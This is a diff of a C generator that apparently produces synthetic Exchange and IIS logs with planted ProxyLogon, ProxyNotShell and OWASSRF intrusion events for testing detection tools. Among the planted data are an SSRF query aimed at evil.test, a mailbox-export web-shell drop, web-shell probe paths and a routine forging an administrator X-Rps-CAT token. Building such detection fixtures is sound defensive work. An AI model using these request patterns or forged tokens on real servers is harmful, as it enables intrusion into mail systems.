-    {.when = "2021-03-04T14:03:02.655Z", .kind = EV_CMDLET, .planted = true,
-     .user = "CONTOSO\\administrator", .name = "New-MailboxExportRequest",
-     .text = "-Mailbox \"administrator@contoso.test\" -IncludeFolders \"#Drafts#\" -ContentFilter \"(Subject -eq '7f3c1a')\" -FilePath \"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\s.aspx\"",
+     .client = "Python PSRP Client",
+     .name = "",
+     .action = "Command"},
+    {.when = "2021-03-04T14:02:31.208Z",
+     .kind = EV_CMDLET,
+     .planted = true,
+     .user = "CONTOSO\\administrator",
+     .name = "New-ManagementRoleAssignment",
+     .text = "-Role \"Mailbox Import Export\" -User \"administrator@contoso.test\"",
      .client = ""},
-    {.when = "2021-03-04T14:03:40.031Z", .kind = EV_CMDLET, .planted = true,
-     .user = "CONTOSO\\administrator", .name = "Remove-MailboxExportRequest",
+    {.when = "2021-03-04T14:03:02.655Z",
+     .kind = EV_CMDLET,
+     .planted = true,
+     .user = "CONTOSO\\administrator",
+     .name = "New-MailboxExportRequest",
+     .text = "-Mailbox \"administrator@contoso.test\" -IncludeFolders \"#Drafts#\" -ContentFilter "
+             "\"(Subject -eq '7f3c1a')\" -FilePath "
+             "\"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\s.aspx\"",
+     .client = ""},
+    {.when = "2021-03-04T14:03:40.031Z",
+     .kind = EV_CMDLET,
+     .planted = true,
+     .user = "CONTOSO\\administrator",
+     .name = "Remove-MailboxExportRequest",
      .text = "-Identity \"contoso.test/Users/Administrator\\MailboxExport\" -Confirm \"False\"",
      .client = ""},
 
@@ -683,30 +899,59 @@ static ev fixed[] = {
               UA_CHROME_OLD, 302),
     SHELL_GET("2021-03-06T17:27:44.923Z", A_HUNT, "/owa/auth/RedirSuiteServerProxy.aspx", NULL,
               UA_CHROME_OLD, 200),
-    SHELL_GET("2021-03-06T17:27:49.335Z", A_HUNT, "/owa/auth/ErrorAA.aspx", NULL, UA_CHROME_OLD, 302),
+    SHELL_GET("2021-03-06T17:27:49.335Z", A_HUNT, "/owa/auth/ErrorAA.aspx", NULL, UA_CHROME_OLD,
+              302),
     SHELL_GET("2021-03-06T17:27:50.622Z", A_HUNT, "/owa/auth/OutlookEN.aspx", NULL, UA_CHROME_OLD,
               302),
     SHELL_GET("2021-03-06T17:27:52.323Z", A_HUNT, "/owa/auth/zntwv.aspx", NULL, UA_CHROME_OLD, 302),
-    SHELL_GET("2021-03-06T17:27:55.019Z", A_HUNT, "/owa/auth/shel90.aspx", NULL, UA_CHROME_OLD, 302),
+    SHELL_GET("2021-03-06T17:27:55.019Z", A_HUNT, "/owa/auth/shel90.aspx", NULL, UA_CHROME_OLD,
+              302),
     SHELL_GET("2021-03-06T17:27:57.740Z", A_HUNT, "/owa/auth/one.aspx", NULL, UA_CHROME_OLD, 302),
 
     /* --- planted: ProxyNotShell (authenticated), 2021-03-07 --------------------------------- */
-    {.when = "2021-03-07T09:14:05.000Z", .kind = EV_REQ, .planted = true, .dest = D_FE,
-     .method = "POST", .host = "mail.contoso.test", .stem = "/autodiscover/autodiscover.json",
-     .query = "@evil.test/powershell/?&Email=autodiscover/autodiscover.json%3F@evil.test&Protocol=Powershell",
-     .ua = "python-requests/2.28.1", .ip = A_PNS, .user = "CONTOSO\\jsmith", .status = 200},
+    {.when = "2021-03-07T09:14:05.000Z",
+     .kind = EV_REQ,
+     .planted = true,
+     .dest = D_FE,
+     .method = "POST",
+     .host = "mail.contoso.test",
+     .stem = "/autodiscover/autodiscover.json",
+     .query = "@evil.test/powershell/?&Email=autodiscover/"
+              "autodiscover.json%3F@evil.test&Protocol=Powershell",
+     .ua = "python-requests/2.28.1",
+     .ip = A_PNS,
+     .user = "CONTOSO\\jsmith",
+     .status = 200},
 
     /* --- planted: OWASSRF, 2021-03-07 ------------------------------------------------------- */
-    {.when = "2021-03-07T16:40:12.000Z", .kind = EV_REQ, .planted = true, .dest = D_FE | D_BE,
-     .method = "POST", .host = "mail.contoso.test",
-     .stem = "/owa/mastermailbox%40outlook.com/powershell", .ua = UA_CHROME105, .ip = A_OWASSRF,
-     .user = "CONTOSO\\jsmith", .status = 200, .be_stem = "/powershell",
-     .be_query = "serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.1007",
-     .be_user = "CONTOSO\\jsmith", .be_status = 200},
-    {.when = "2021-03-07T16:40:12.377Z", .kind = EV_RPSHTTP, .planted = true,
-     .stem = "/powershell", .user = "CONTOSO\\jsmith", .ip = SERVER_IP, .status = 200,
-     .text = "?serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.1007",
-     .client = "", .name = "", .action = "Command"},
+    {.when = "2021-03-07T16:40:12.000Z",
+     .kind = EV_REQ,
+     .planted = true,
+     .dest = D_FE | D_BE,
+     .method = "POST",
+     .host = "mail.contoso.test",
+     .stem = "/owa/mastermailbox%40outlook.com/powershell",
+     .ua = UA_CHROME105,
+     .ip = A_OWASSRF,
+     .user = "CONTOSO\\jsmith",
+     .status = 200,
+     .be_stem = "/powershell",
+     .be_query = "serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication="
+                 "ManagementShell;TargetServer=;PSVersion=5.1.17763.1007",
+     .be_user = "CONTOSO\\jsmith",
+     .be_status = 200},
+    {.when = "2021-03-07T16:40:12.377Z",
+     .kind = EV_RPSHTTP,
+     .planted = true,
+     .stem = "/powershell",
+     .user = "CONTOSO\\jsmith",
+     .ip = SERVER_IP,
+     .status = 200,
+     .text = "?serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication=ManagementShell;"
+             "TargetServer=;PSVersion=5.1.17763.1007",
+     .client = "",
+     .name = "",
+     .action = "Command"},
 };
 #define NFIXED (sizeof fixed / sizeof fixed[0])
 
@@ -719,10 +964,10 @@ typedef struct gen {
     uint64_t seed;
     bool benign;
     bool scale;
-    uint64_t target;       /* --scale: bytes wanted */
-    int first_day, ndays;  /* March days */
-    sb row;                /* the row being built */
-    char token[512];       /* the forged X-Rps-CAT value, URL-encoded */
+    uint64_t target;      /* --scale: bytes wanted */
+    int first_day, ndays; /* March days */
+    sb row;               /* the row being built */
+    char token[512];      /* the forged X-Rps-CAT value, URL-encoded */
     /* open files */
     member hp[P__COUNT];
     int hp_seq[P__COUNT];
@@ -736,7 +981,8 @@ typedef struct gen {
 static void put_w3c_header(gen *g, int site, int64_t t)
 {
     sb *b = &g->row;
-    sb_put(b, "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: ");
+    sb_put(b,
+           "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: ");
     sb_w3c_date(b, t);
     sb_putc(b, ' ');
     sb_w3c_time(b, t);
@@ -788,8 +1034,8 @@ static void iis_restarts(gen *g, int64_t hour_start)
         put_w3c_header(g, 1, hour_start + 2000);
 }
 
-static void exch_header(gen *g, member *m, const char *logtype, const char *fields,
-                        bool bare_first, int64_t t, const char *version)
+static void exch_header(gen *g, member *m, const char *logtype, const char *fields, bool bare_first,
+                        int64_t t, const char *version)
 {
     sb *b = &g->row;
     if (bare_first) {
@@ -995,7 +1241,7 @@ static void build_hp(gen *g, const ev *e, rng *r, sb *b)
     if (proxied) {
         f[23] = "Proxy";
         f[24] = e->anchor && strncmp(e->anchor, "ServerInfo~localhost", 20) == 0 ? "localhost"
-                                                                              : SERVER_FQDN;
+                                                                                 : SERVER_FQDN;
         f[25] = "15.01.2176.000";
         f[26] = "IntraForest";
         f[30] = "0";
@@ -1075,13 +1321,27 @@ static void write_iis(gen *g, const ev *e, rng *r, int site)
         if (f != g->iis_fields[site])
             sb_putc(b, ' ');
         switch (*f) {
-        case W_DATE: sb_w3c_date(b, e->t); break;
-        case W_TIME: sb_w3c_time(b, e->t); break;
-        case W_SITENAME: sb_put(b, be ? "Exchange+Back+End" : "Default+Web+Site"); break;
-        case W_COMPUTER: sb_put(b, SERVER); break;
-        case W_SIP: sb_put(b, SERVER_IP); break;
-        case W_METHOD: sb_put(b, e->method); break;
-        case W_STEM: sb_put(b, stem); break;
+        case W_DATE:
+            sb_w3c_date(b, e->t);
+            break;
+        case W_TIME:
+            sb_w3c_time(b, e->t);
+            break;
+        case W_SITENAME:
+            sb_put(b, be ? "Exchange+Back+End" : "Default+Web+Site");
+            break;
+        case W_COMPUTER:
+            sb_put(b, SERVER);
+            break;
+        case W_SIP:
+            sb_put(b, SERVER_IP);
+            break;
+        case W_METHOD:
+            sb_put(b, e->method);
+            break;
+        case W_STEM:
+            sb_put(b, stem);
+            break;
         case W_QUERY:
             if (q && *q) {
                 sb_expand(g, b, q);
@@ -1097,19 +1357,45 @@ static void write_iis(gen *g, const ev *e, rng *r, int site)
                 sb_putc(b, '-');
             }
             break;
-        case W_SPORT: sb_u(b, (uint64_t)port); break;
-        case W_USER: sb_put(b, user ? user : "-"); break;
-        case W_CIP: sb_put(b, be ? SERVER_IP : e->ip); break;
-        case W_VERSION: sb_put(b, "HTTP/1.1"); break;
-        case W_UA: put_ua_plus(b, e->ua); break;
-        case W_REFERER: sb_put(b, e->referer ? e->referer : "-"); break;
-        case W_HOST: sb_put(b, be ? SERVER_FQDN ":444" : e->host); break;
-        case W_STATUS: sb_u(b, (uint64_t)status); break;
-        case W_SUBSTATUS: sb_putc(b, '0'); break;
-        case W_WIN32: sb_putc(b, '0'); break;
-        case W_SCBYTES: sb_u(b, 300 + below(r, 20000)); break;
-        case W_CSBYTES: sb_u(b, 200 + below(r, 3000)); break;
-        case W_TAKEN: sb_u(b, taken); break;
+        case W_SPORT:
+            sb_u(b, (uint64_t)port);
+            break;
+        case W_USER:
+            sb_put(b, user ? user : "-");
+            break;
+        case W_CIP:
+            sb_put(b, be ? SERVER_IP : e->ip);
+            break;
+        case W_VERSION:
+            sb_put(b, "HTTP/1.1");
+            break;
+        case W_UA:
+            put_ua_plus(b, e->ua);
+            break;
+        case W_REFERER:
+            sb_put(b, e->referer ? e->referer : "-");
+            break;
+        case W_HOST:
+            sb_put(b, be ? SERVER_FQDN ":444" : e->host);
+            break;
+        case W_STATUS:
+            sb_u(b, (uint64_t)status);
+            break;
+        case W_SUBSTATUS:
+            sb_putc(b, '0');
+            break;
+        case W_WIN32:
+            sb_putc(b, '0');
+            break;
+        case W_SCBYTES:
+            sb_u(b, 300 + below(r, 20000));
+            break;
+        case W_CSBYTES:
+            sb_u(b, 200 + below(r, 3000));
+            break;
+        case W_TAKEN:
+            sb_u(b, taken);
+            break;
         }
     }
     sb_crlf(b);
@@ -1152,9 +1438,9 @@ static void write_ecp(gen *g, const ev *e, rng *r)
  * the Exchange CSV family, with the phrase and the quoted path as Test-ProxyLogon reads them. */
 static void write_oab(gen *g, const ev *e, rng *r)
 {
-    member *m = day_file(g, &g->oab, e->t, "OABGeneratorLog", "OABGeneratorLog_",
-                         "OABGenerator Log", "DateTime,ProcessId,ThreadId,Level,Component,Message",
-                         BUILD_DOTTED);
+    member *m =
+        day_file(g, &g->oab, e->t, "OABGeneratorLog", "OABGeneratorLog_", "OABGenerator Log",
+                 "DateTime,ProcessId,ThreadId,Level,Component,Message", BUILD_DOTTED);
     sb *b = &g->row;
     char msg[2048];
     expand(g, e->text, msg, sizeof msg);
@@ -1216,7 +1502,8 @@ static void write_rpshttp(gen *g, const ev *e, rng *r)
     sb_putc(b, ',');
     sb_csv(b, q);
     sb_put(b, ",,");
-    sb_put(b, "OnEndRequest.End.ContentType=application/soap+xml charset UTF-8;S:ServiceCommonMetadata.HttpMethod=POST;");
+    sb_put(b, "OnEndRequest.End.ContentType=application/soap+xml charset "
+              "UTF-8;S:ServiceCommonMetadata.HttpMethod=POST;");
     sb_put(b, ",");
     sb_crlf(b);
     m_row(&g->o, m, b, e->t);
@@ -1291,10 +1578,18 @@ static void emit(gen *g, const ev *e, rng *r)
         if (e->dest & D_BE)
             write_iis(g, e, r, 1);
         break;
-    case EV_ECP: write_ecp(g, e, r); break;
-    case EV_OAB: write_oab(g, e, r); break;
-    case EV_RPSHTTP: write_rpshttp(g, e, r); break;
-    case EV_CMDLET: write_cmdlet(g, e, r); break;
+    case EV_ECP:
+        write_ecp(g, e, r);
+        break;
+    case EV_OAB:
+        write_oab(g, e, r);
+        break;
+    case EV_RPSHTTP:
+        write_rpshttp(g, e, r);
+        break;
+    case EV_CMDLET:
+        write_cmdlet(g, e, r);
+        break;
     }
 }
 
@@ -1302,32 +1597,36 @@ static void emit(gen *g, const ev *e, rng *r)
 /* Benign traffic                                                                             */
 
 static const char *const users[] = {
-    "jdoe", "asmith", "bwong", "cmartin", "dlee", "eking", "fgarcia", "gnguyen", "hpatel",
-    "ijones", "jkim", "kbrown", "lchen", "mdavis", "nlopez", "owilson", "pmoore", "qtaylor",
-    "randerson", "sthomas", "tjackson", "uwhite", "vharris", "wclark", "xlewis", "yrobinson",
-    "zwalker", "abaker", "bhall", "callen", "jsmith", "exadmin"};
+    "jdoe",   "asmith",    "bwong",     "cmartin", "dlee",     "eking",  "fgarcia", "gnguyen",
+    "hpatel", "ijones",    "jkim",      "kbrown",  "lchen",    "mdavis", "nlopez",  "owilson",
+    "pmoore", "qtaylor",   "randerson", "sthomas", "tjackson", "uwhite", "vharris", "wclark",
+    "xlewis", "yrobinson", "zwalker",   "abaker",  "bhall",    "callen", "jsmith",  "exadmin"};
 #define NUSERS (sizeof users / sizeof users[0])
 
 static const char *const browsers[] = {
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/88.0.4324.190 Safari/537.36",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.72 Safari/537.36 Edg/89.0.774.45",
-    "Mozilla/5.0 (Macintosh; Intel Mac OS X 11_2_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0.3 Safari/605.1.15",
-    "Mozilla/5.0 (iPhone; CPU iPhone OS 14_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0.3 Mobile/15E148 Safari/604.1"};
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/89.0.4389.72 Safari/537.36 Edg/89.0.774.45",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 11_2_2) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+    "Version/14.0.3 Safari/605.1.15",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 14_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
+    "Gecko) Version/14.0.3 Mobile/15E148 Safari/604.1"};
 
 static const char *const outlooks[] = {
     "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)",
     "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13127; Pro)",
     "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.5122; Pro)"};
 
-static const char *const devices[][2] = {
-    {"iPhone", "Apple-iPhone12C1/1805.212"},
-    {"iPhone", "Apple-iPhone13C2/1804.121"},
-    {"iPad", "Apple-iPad7C2/1805.212"},
-    {"Outlook", "Outlook-iOS-Android/1.0"},
-    {"SAMSUNGSMG973F", "Android-SAMSUNG-SM-G973F/101.10000"}};
+static const char *const devices[][2] = {{"iPhone", "Apple-iPhone12C1/1805.212"},
+                                         {"iPhone", "Apple-iPhone13C2/1804.121"},
+                                         {"iPad", "Apple-iPad7C2/1805.212"},
+                                         {"Outlook", "Outlook-iOS-Android/1.0"},
+                                         {"SAMSUNGSMG973F", "Android-SAMSUNG-SM-G973F/101.10000"}};
 
-static const char *const eas_cmds[] = {"Sync", "Sync", "Ping", "Ping", "Ping", "FolderSync",
+static const char *const eas_cmds[] = {"Sync",           "Sync",     "Ping",
+                                       "Ping",           "Ping",     "FolderSync",
                                        "ItemOperations", "SendMail", "GetItemEstimate"};
 
 static const char *const owa_static[] = {
@@ -1341,9 +1640,14 @@ static const char *const owa_static[] = {
     "/owa/" OWA_VER "/resources/styles/0/boot.worldwide.mouse.css",
     "/owa/prem/" OWA_VER "/resources/images/0/sprite1.mouse.png"};
 
-static const char *const owa_actions[] = {"GetFolder", "FindItem", "GetConversationItems",
-                                          "GetItem", "FindConversation", "GetOwaUserConfiguration",
-                                          "SubscribeToNotification", "GetCalendarView"};
+static const char *const owa_actions[] = {"GetFolder",
+                                          "FindItem",
+                                          "GetConversationItems",
+                                          "GetItem",
+                                          "FindConversation",
+                                          "GetOwaUserConfiguration",
+                                          "SubscribeToNotification",
+                                          "GetCalendarView"};
 
 static const char *const ecp_cmds[] = {
     "S:CMD=Get-Mailbox.Identity=$null",
@@ -1410,8 +1714,9 @@ static void benign_event(gen *g, rng *r, int64_t t)
         e.auth = "";
         if (below(r, 2)) {
             e.stem = "/autodiscover/autodiscover.json";
-            snprintf(s.query, sizeof s.query, "Email=%s%%40contoso.test&Protocol=%s&RedirectCount=1",
-                     users[ui], below(r, 3) ? "ActiveSync" : "AutodiscoverV1");
+            snprintf(s.query, sizeof s.query,
+                     "Email=%s%%40contoso.test&Protocol=%s&RedirectCount=1", users[ui],
+                     below(r, 3) ? "ActiveSync" : "AutodiscoverV1");
             e.ua = devices[below(r, 5)][1];
         } else {
             snprintf(s.stem, sizeof s.stem, "/autodiscover/autodiscover.json/v1.0/%s", s.upn);
@@ -1427,7 +1732,8 @@ static void benign_event(gen *g, rng *r, int64_t t)
         e.proto = P_MAPI;
         e.method = "POST";
         e.stem = below(r, 5) ? "/mapi/emsmdb/" : "/mapi/nspi/";
-        snprintf(s.query, sizeof s.query, "MailboxId=%08x-%04x-4%03x-a%03x-%012" PRIx64 "@contoso.test",
+        snprintf(s.query, sizeof s.query,
+                 "MailboxId=%08x-%04x-4%03x-a%03x-%012" PRIx64 "@contoso.test",
                  (unsigned)hash_str(users[ui]), ui * 31, ui * 7 % 4096, ui * 13 % 4096,
                  (uint64_t)(hash_str(s.upn) & 0xffffffffffffull));
         e.query = s.query;
@@ -1442,8 +1748,8 @@ static void benign_event(gen *g, rng *r, int64_t t)
         e.method = below(r, 8) ? "POST" : "OPTIONS";
         e.stem = "/Microsoft-Server-ActiveSync/default.eas";
         unsigned d = (unsigned)(hash_str(users[ui]) % 5);
-        snprintf(s.query, sizeof s.query, "Cmd=%s&User=%s&DeviceId=%016" PRIX64 "%016" PRIX64
-                 "&DeviceType=%s",
+        snprintf(s.query, sizeof s.query,
+                 "Cmd=%s&User=%s&DeviceId=%016" PRIX64 "%016" PRIX64 "&DeviceType=%s",
                  strcmp(e.method, "OPTIONS") == 0 ? "Options" : eas_cmds[below(r, 9)], users[ui],
                  hash_str(users[ui]), hash_str(s.upn), devices[d][0]);
         e.query = s.query;
@@ -1499,8 +1805,8 @@ static void benign_event(gen *g, rng *r, int64_t t)
         } else if (k <= 8) {
             e.method = "POST";
             e.stem = "/owa/service.svc";
-            snprintf(s.query, sizeof s.query, "action=%s&EP=1&ID=-%u&AC=1", owa_actions[below(r, 8)],
-                     30 + below(r, 40));
+            snprintf(s.query, sizeof s.query, "action=%s&EP=1&ID=-%u&AC=1",
+                     owa_actions[below(r, 8)], 30 + below(r, 40));
             e.query = s.query;
             e.auth = "FBA";
             e.action = "";
@@ -1572,13 +1878,23 @@ static void benign_event(gen *g, rng *r, int64_t t)
             e.action = "Get-Mailbox:Command";
             e.port = 443;
             emit(g, &e, r);
-            ev h = {.t = t + 3, .kind = EV_RPSHTTP, .stem = "/powershell", .user = HEALTH_USER,
-                    .ip = SERVER_IP, .status = 200,
+            ev h = {.t = t + 3,
+                    .kind = EV_RPSHTTP,
+                    .stem = "/powershell",
+                    .user = HEALTH_USER,
+                    .ip = SERVER_IP,
+                    .status = 200,
                     .text = "?clientApplication=ActiveMonitor;PSVersion=5.1.14393.4283",
-                    .client = "Microsoft WinRM Client", .name = "Get-Mailbox", .action = "Command"};
+                    .client = "Microsoft WinRM Client",
+                    .name = "Get-Mailbox",
+                    .action = "Command"};
             emit(g, &h, r);
-            ev c = {.t = t + 9, .kind = EV_CMDLET, .user = "HealthMailbox8a1f2c3d4e5f4a6b9c0d1e2f3a4b5c6d",
-                    .name = "Get-Mailbox", .text = "-ResultSize \"1\"", .client = "ActiveMonitor"};
+            ev c = {.t = t + 9,
+                    .kind = EV_CMDLET,
+                    .user = "HealthMailbox8a1f2c3d4e5f4a6b9c0d1e2f3a4b5c6d",
+                    .name = "Get-Mailbox",
+                    .text = "-ResultSize \"1\"",
+                    .client = "ActiveMonitor"};
             emit(g, &c, r);
             return;
         }
@@ -1588,7 +1904,8 @@ static void benign_event(gen *g, rng *r, int64_t t)
         e.proto = P_POWERSHELL;
         e.method = "POST";
         e.stem = "/powershell";
-        e.query = "serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.1490";
+        e.query = "serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication="
+                  "ManagementShell;TargetServer=;PSVersion=5.1.17763.1490";
         e.ua = "Microsoft WinRM Client";
         e.user = "CONTOSO\\exadmin";
         e.ip = "10.1.10.5";
@@ -1599,13 +1916,24 @@ static void benign_event(gen *g, rng *r, int64_t t)
         snprintf(s.stem, sizeof s.stem, "%s:Command", admin_cmdlets[k][0]);
         e.action = s.stem;
         emit(g, &e, r);
-        ev h = {.t = t + 4, .kind = EV_RPSHTTP, .stem = "/powershell", .user = "CONTOSO\\exadmin",
-                .ip = "10.1.10.5", .status = 200,
-                .text = "?serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.1490",
-                .client = "Microsoft WinRM Client", .name = admin_cmdlets[k][0], .action = "Command"};
+        ev h = {.t = t + 4,
+                .kind = EV_RPSHTTP,
+                .stem = "/powershell",
+                .user = "CONTOSO\\exadmin",
+                .ip = "10.1.10.5",
+                .status = 200,
+                .text = "?serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication="
+                        "ManagementShell;TargetServer=;PSVersion=5.1.17763.1490",
+                .client = "Microsoft WinRM Client",
+                .name = admin_cmdlets[k][0],
+                .action = "Command"};
         emit(g, &h, r);
-        ev c = {.t = t + 11, .kind = EV_CMDLET, .user = "CONTOSO\\exadmin",
-                .name = admin_cmdlets[k][0], .text = admin_cmdlets[k][1], .client = ""};
+        ev c = {.t = t + 11,
+                .kind = EV_CMDLET,
+                .user = "CONTOSO\\exadmin",
+                .name = admin_cmdlets[k][0],
+                .text = admin_cmdlets[k][1],
+                .client = ""};
         emit(g, &c, r);
         return;
     } else {
@@ -1619,7 +1947,8 @@ static void benign_event(gen *g, rng *r, int64_t t)
         e.referer = "https://mail.contoso.test/ecp/";
         e.method = "POST";
         e.stem = "/ecp/DDI/DDIService.svc/GetList";
-        snprintf(s.query, sizeof s.query, "schema=%s&msExchEcpCanary=Vb1mXq4wJr7kYs2LdE9fGu3aIo5TyPjRlCZp8cH2vN6tB0.",
+        snprintf(s.query, sizeof s.query,
+                 "schema=%s&msExchEcpCanary=Vb1mXq4wJr7kYs2LdE9fGu3aIo5TyPjRlCZp8cH2vN6tB0.",
                  k == 3 ? "VirtualDirectories" : "MailboxService");
         e.query = s.query;
         e.anchor = "Sid~S-1-5-21-1004336348-1177238915-682003330-1107";
@@ -1704,16 +2033,44 @@ static void make_token(gen *g)
     static const char grp[] = "S-1-5-32-544";
     unsigned char t[256];
     size_t n = 0;
-    t[n++] = 'V'; t[n++] = 1; t[n++] = 0;
-    t[n++] = 'T'; t[n++] = 7; memcpy(t + n, "Windows", 7); n += 7;
-    t[n++] = 'C'; t[n++] = 0;
-    t[n++] = 'A'; t[n++] = 8; memcpy(t + n, "Kerberos", 8); n += 8;
-    t[n++] = 'L'; t[n++] = 26; memcpy(t + n, "administrator@contoso.test", 26); n += 26;
-    t[n++] = 'U'; t[n++] = (unsigned char)(sizeof sid - 1); memcpy(t + n, sid, sizeof sid - 1); n += sizeof sid - 1;
-    t[n++] = 'G'; t[n++] = 1; t[n++] = 0; t[n++] = 0; t[n++] = 0;
-    t[n++] = 7; t[n++] = 0; t[n++] = 0; t[n++] = 0;
-    t[n++] = (unsigned char)(sizeof grp - 1); memcpy(t + n, grp, sizeof grp - 1); n += sizeof grp - 1;
-    t[n++] = 'E'; t[n++] = 0; t[n++] = 0; t[n++] = 0; t[n++] = 0;
+    t[n++] = 'V';
+    t[n++] = 1;
+    t[n++] = 0;
+    t[n++] = 'T';
+    t[n++] = 7;
+    memcpy(t + n, "Windows", 7);
+    n += 7;
+    t[n++] = 'C';
+    t[n++] = 0;
+    t[n++] = 'A';
+    t[n++] = 8;
+    memcpy(t + n, "Kerberos", 8);
+    n += 8;
+    t[n++] = 'L';
+    t[n++] = 26;
+    memcpy(t + n, "administrator@contoso.test", 26);
+    n += 26;
+    t[n++] = 'U';
+    t[n++] = (unsigned char)(sizeof sid - 1);
+    memcpy(t + n, sid, sizeof sid - 1);
+    n += sizeof sid - 1;
+    t[n++] = 'G';
+    t[n++] = 1;
+    t[n++] = 0;
+    t[n++] = 0;
+    t[n++] = 0;
+    t[n++] = 7;
+    t[n++] = 0;
+    t[n++] = 0;
+    t[n++] = 0;
+    t[n++] = (unsigned char)(sizeof grp - 1);
+    memcpy(t + n, grp, sizeof grp - 1);
+    n += sizeof grp - 1;
+    t[n++] = 'E';
+    t[n++] = 0;
+    t[n++] = 0;
+    t[n++] = 0;
+    t[n++] = 0;
     b64(t, n, g->token, sizeof g->token);
 }
 
@@ -1786,9 +2143,19 @@ static void generate(gen *g)
 
 static ev chain_row(const char *when, const char *target, int status)
 {
-    ev e = {.when = when, .kind = EV_REQ, .dest = D_HP, .proto = P_ECP, .method = "POST",
-            .host = "mail.contoso.test", .stem = "/ecp/y.js", .ua = UA_PYREQ, .ip = A_PL,
-            .auth = "", .anchor = target, .hint = "X-BEResource-Cookie", .status = status};
+    ev e = {.when = when,
+            .kind = EV_REQ,
+            .dest = D_HP,
+            .proto = P_ECP,
+            .method = "POST",
+            .host = "mail.contoso.test",
+            .stem = "/ecp/y.js",
+            .ua = UA_PYREQ,
+            .ip = A_PL,
+            .auth = "",
+            .anchor = target,
+            .hint = "X-BEResource-Cookie",
+            .status = status};
     e.t = iso(when);
     return e;
 }
@@ -1822,14 +2189,16 @@ static void robust_rows(gen *g, member *m, const char *kind, rng *r)
     ev a = chain_row("2021-03-03T06:49:43.699Z", SSRF_PFX "mapi/emsmdb/?#", 200);
     ev b = chain_row("2021-03-03T06:49:46.210Z", SSRF_PFX "ecp/proxyLogon.ecp?#", 241);
     ev c = chain_row("2021-03-03T06:49:51.543Z",
-                     SSRF_PFX "ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=" CANARY1 "&schema=OABVirtualDirectory#",
+                     SSRF_PFX "ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=" CANARY1
+                              "&schema=OABVirtualDirectory#",
                      200);
     build_hp(g, &a, r, row);
     m_row(&g->o, m, row, a.t);
     if (strcmp(kind, "longline") == 0) {
         /* A row whose user agent is 64 MiB long. */
-        sb_put(row, "2021-03-03T06:49:44.000Z,5b0d9c3e-1111-4a2b-9c1d-0123456789ab,15,1,2176,2,,Ecp,"
-                    "mail.contoso.test,/ecp/default.aspx,,,false,,,,");
+        sb_put(row,
+               "2021-03-03T06:49:44.000Z,5b0d9c3e-1111-4a2b-9c1d-0123456789ab,15,1,2176,2,,Ecp,"
+               "mail.contoso.test,/ecp/default.aspx,,,false,,,,");
         m_row(&g->o, m, row, INT64_MIN);
         char *chunk = malloc(1 << 20);
         if (!chunk)
@@ -1838,7 +2207,8 @@ static void robust_rows(gen *g, member *m, const char *kind, rng *r)
         for (int i = 0; i < 64; i++)
             m_write(&g->o, m, chunk, 1 << 20);
         free(chunk);
-        sb_put(row, "," A_PL "," SERVER ",404,,,GET,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,\r\n");
+        sb_put(row, "," A_PL "," SERVER
+                    ",404,,,GET,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,\r\n");
         m_row(&g->o, m, row, INT64_MIN);
     } else if (strcmp(kind, "binary") == 0) {
         /* A zero-filled cluster and random bytes in the middle of the log, as after a crash. */
@@ -1918,17 +2288,28 @@ static void robust(gen *g, const char *kind, const char *dir)
         m_close(&g->o, m);
     } else if (strcmp(kind, "badutf8") == 0) {
         /* Carrier POSTs in the front-end IIS log; the first one's user agent is not UTF-8. */
-        ev e = {.kind = EV_REQ, .dest = D_FE, .method = "POST", .host = "mail.contoso.test",
-                .stem = "/ecp/y.js", .ip = A_PL, .status = 200};
+        ev e = {.kind = EV_REQ,
+                .dest = D_FE,
+                .method = "POST",
+                .host = "mail.contoso.test",
+                .stem = "/ecp/y.js",
+                .ip = A_PL,
+                .status = 200};
         ev ok = e;
         e.t = iso("2021-03-03T06:49:43.000Z");
         e.ua = "python-requests/2.25.1 \xff\xfe\xc3( \xed\xa0\x80";
         ok.t = iso("2021-03-03T06:49:46.000Z");
         ok.ua = UA_PYREQ;
-        ev benign = {.kind = EV_REQ, .dest = D_FE, .method = "GET", .host = "mail.contoso.test",
